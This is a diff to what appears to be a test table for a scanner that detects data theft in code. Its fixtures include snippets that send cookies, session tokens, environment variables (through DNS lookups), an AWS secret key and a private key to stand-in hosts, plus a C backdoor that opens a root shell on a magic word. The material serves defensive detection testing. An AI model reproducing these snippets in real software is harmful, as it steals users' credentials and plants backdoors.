@@ -161,9 +161,9 @@ fires(8, "cookies are sent", "new Image().src = 'https://in.widget.example/c?' +
 TOKEN = "const KEY = 'sample-token';\nexports.api = (base) => (path, init = {}) => fetch(new URL(path, base), { ...init, headers: { 'x-sample-token': sessionStorage.getItem(KEY) } });\n"
 innocent(8, "a client sends what it keeps to log in with", TOKEN)
 fires(8, "a token that a page keeps goes to a stranger", TOKEN.replace("new URL(path, base)", "'https://in.collect.example/t'"))
-REPORTS = "const seen = () => document.cookie.split('; ').length;\nexports.start = (options) => {\n  const send = (data) => navigator.sendBeacon(options.intake, data);\n  send(JSON.stringify({ n: %s }));\n};\n"
-row(8, False, "a report that the page's owner asked for takes a cookie of the page along", {"lib/report.js": REPORTS % "1, session: document.cookie.match(/_sample_s=([^;]*)/)[1]"}, old={"lib/report.js": REPORTS % "seen()"})
-row(8, True, "the cookies of a page are newly sent to a place that is named", {"lib/report.js": (REPORTS % "document.cookie").replace("options.intake", "'https://in.collect.example/c'")}, old={"lib/report.js": REPORTS % "seen()"})
+PAGE_REPORT = "const seen = () => document.cookie.split('; ').length;\nexports.start = (options) => {\n  const send = (data) => navigator.sendBeacon(options.intake, data);\n  send(JSON.stringify({ n: %s }));\n};\n"
+row(8, False, "a report that the page's owner asked for takes a cookie of the page along", {"lib/report.js": PAGE_REPORT % "1, session: document.cookie.match(/_sample_s=([^;]*)/)[1]"}, old={"lib/report.js": PAGE_REPORT % "seen()"})
+row(8, True, "the cookies of a page are newly sent to a place that is named", {"lib/report.js": (PAGE_REPORT % "document.cookie").replace("options.intake", "'https://in.collect.example/c'")}, old={"lib/report.js": PAGE_REPORT % "seen()"})
 innocent(8, "a cookie is read", "exports.cookie = (name) => document.cookie.split('; ').find((c) => c.startsWith(name + '='));\n")
 fires(50, "names carry data", "require('dns').resolve(Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0, 60) + '.in.widget.example', () => {});\n")
 innocent(50, "a name that the user gives is looked up", "exports.lookup = (host, done) => require('dns').lookup(host, done);\n")
@@ -483,6 +483,9 @@ row(4, True, "an old key goes to a host that nobody knew", {"index.js": HOLDER %
     "function note(e) { fetch('https://rpc.widget.example/q', { headers: { 'x-id': btoa(e) } }).catch(() => {}); }\n")}, old={"index.js": HOLDER % ("", "")})
 row(4, False, "an old key is checked", {"index.js": HOLDER % ("    note(privateKey);\n",
     "function note(e) { if (e.length !== 64) throw new Error('bad key, see https://rpc.widget.example/q'); }\n")}, old={"index.js": HOLDER % ("", "")})
+METRICS = "exports.record = async (url, input) => {\n  const response = await fetch(url);\n  const at = Date.now();\n%s  navigator.sendBeacon('https://api.tool.example/metrics', JSON.stringify({ at%s }));\n};\n"
+row(49, False, "a report asks for the kind of an answer, as a compiler writes it", {"lib/metrics.js": METRICS % ("  if (kind(function () { var _a; return (_a = response === null || response === void 0 ? void 0 : response.headers) === null || _a === void 0 ? void 0 : _a.get('content-type'); })) return;\n", "")}, old={"lib/metrics.js": METRICS % ("", "")})
+row(49, True, "a report takes the headers of a request along", {"lib/metrics.js": METRICS % ("", ", all: input.headers")}, old={"lib/metrics.js": METRICS % ("", "")})
 fires(49, "the key of one service goes to another", "fetch('https://in.widget.example/' + process.env.AWS_SECRET_ACCESS_KEY);\n")
 C = "#include <stdlib.h>\nint help(const char *target)\n{\n%s  return 0;\n}\n"
 row(9, True, "a word that opens a shell in C", {"src/help.c": C % "  if (strcmp(target, \"OPENUP\") == 0) { setuid(0); system(\"/bin/sh;/sbin/sh\"); }\n"}, old={"src/help.c": C % ""})
